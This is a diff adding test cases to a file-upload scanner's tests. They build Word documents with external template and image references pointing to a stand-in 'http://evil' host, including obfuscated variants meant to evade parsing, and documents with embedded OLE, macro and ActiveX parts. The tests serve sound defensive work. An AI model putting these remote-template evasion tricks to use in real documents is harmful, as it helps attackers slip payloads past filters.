@@ -38,6 +38,16 @@ def docx(**parts: bytes) -> bytes:
     return archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"} | parts)
 
 
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+ELSEWHERE = "http://evil/a.dotm"
+
+
+def related(attributes: str, *, encoding: str = "utf-8") -> bytes:
+    namespace = "http://schemas.openxmlformats.org/package/2006/relationships"
+    listed = f'<Relationships xmlns="{namespace}"><Relationship Id="a" {attributes}/></Relationships>'
+    return docx(**{"word/_rels/settings.xml.rels": listed.encode(encoding)})
+
+
 def stream(objects: bytes, *, told: bytes = b"/Type /ObjStm /Filter /FlateDecode") -> bytes:
     packed = zlib.compress(objects)
     return b"%PDF-1.7\n5 0 obj <<" + told + b">> stream\n" + packed + b"\nendstream endobj\n%%EOF"
@@ -73,6 +83,10 @@ def heic(width: int, height: int) -> bytes:
         (heic(8064, 6048), "image/heic"),
         (docx(), DOCX),
         (docx(**{"word/media/a.bin": bytes(5_000_000)}), DOCX),
+        (related(f'Type="{OFFICE}hyperlink" Target="https://mila.ru" TargetMode="External"'), DOCX),
+        (related(f'TargetMode="External" Type="{OFFICE}hyperlink" Target="https://mila.ru"'), DOCX),
+        (related(f'Type="{OFFICE}image" Target="media/a.png"'), DOCX),
+        (docx(**{"word/embeddings/Microsoft_Excel_Sheet1.xlsx": b"PK"}), DOCX),
         ("АД 120/80\n".encode(), "text/plain"),
     ],
 )
@@ -115,6 +129,23 @@ def test_an_ordinary_file_passes(content: bytes, content_type: str) -> None:
         (docx(**{"word/x.xml": "<!DOCTYPE a>".encode("utf-16")}), DOCX, Danger.OUTSIDE_REFERENCES),
         (docx(**{"word/_rels/settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" '
                  b'Target="http://evil/a.dotm" TargetMode="External"/>'}), DOCX, Danger.OUTSIDE_REFERENCES),
+        (related(f'TargetMode="External" Target="{ELSEWHERE}" Type="{OFFICE}attachedTemplate"'), DOCX,
+         Danger.OUTSIDE_REFERENCES),
+        (related(f"Type='{OFFICE}attachedTemplate' Target='{ELSEWHERE}' TargetMode='External'"), DOCX,
+         Danger.OUTSIDE_REFERENCES),
+        (related(f'Type="{OFFICE}attachedTemplate" Target="{ELSEWHERE}" TargetMode = "External"'), DOCX,
+         Danger.OUTSIDE_REFERENCES),
+        (related(f'Type="{OFFICE}attached&#84;emplate" Target="{ELSEWHERE}" TargetMode="&#69;xternal"'), DOCX,
+         Danger.OUTSIDE_REFERENCES),
+        (related(f'TargetMode="External" Type="{OFFICE}attachedTemplate"', encoding="utf-16"), DOCX,
+         Danger.OUTSIDE_REFERENCES),
+        (related(f'Type="{OFFICE}image" Target="http://evil/p.png" TargetMode="External"'), DOCX,
+         Danger.OUTSIDE_REFERENCES),
+        (related('TargetMode="External" Target="http://evil/p.png"'), DOCX, Danger.OUTSIDE_REFERENCES),
+        (related("TargetMode="), DOCX, Danger.UNREADABLE),
+        (docx(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), DOCX, Danger.ACTIVE),
+        (docx(**{"xl/embeddings/a.docm": b"PK"}), DOCX, Danger.ACTIVE),
+        (docx(**{"word/activeX/activeX1.xml": b"<a/>"}), DOCX, Danger.ACTIVE),
         (b"PK\3\4 nothing", DOCX, Danger.UNREADABLE),
     ],
 )  # fmt: skip
